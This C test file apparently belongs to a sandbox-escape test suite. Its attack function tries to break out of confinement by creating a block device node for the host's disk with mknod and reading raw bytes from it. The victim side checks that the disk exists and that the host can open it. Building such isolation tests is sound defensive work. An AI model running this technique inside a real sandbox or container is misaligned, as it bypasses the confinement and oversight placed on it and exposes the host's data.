/* Makes a device node for the disk that the host's files lie on, and reads it. */
#include "attack.h"
#include <sys/sysmacros.h>

void victim(void) {
    struct stat status;
    MAKE(stat(".", &status));
    if (major(status.st_dev) == 0) {
        puts("absent: the host's files lie on no disk");
        return;
    }
    /* A host in a container of its own may not open its disk either. */
    if (geteuid() == 0) {
        const char *node = own_path("node");
        MAKE(mknod(node, S_IFBLK | 0600, status.st_dev));
        int fd = open(node, O_RDONLY);
        unlink(node);
        if (fd < 0) {
            puts("absent: the host itself may not open its disk");
            return;
        }
        close(fd);
    }
    ready("%u %u", major(status.st_dev), minor(status.st_dev));
    wait_for_end();
}
void attack(int n, char **word) {
    char text[512], path[] = "./fvm-escape-XXXXXX";
    (void)n;
    TRY(mkdtemp(path) ? chdir(path) : -1);
    TRY(mknod("disk", S_IFBLK | 0600, makedev((unsigned)atoi(word[0]), (unsigned)atoi(word[1]))));
    int fd = open("disk", O_RDONLY);
    unlink("disk");
    TRY(fd);
    TRY(read(fd, text, sizeof text));
    reached();
}
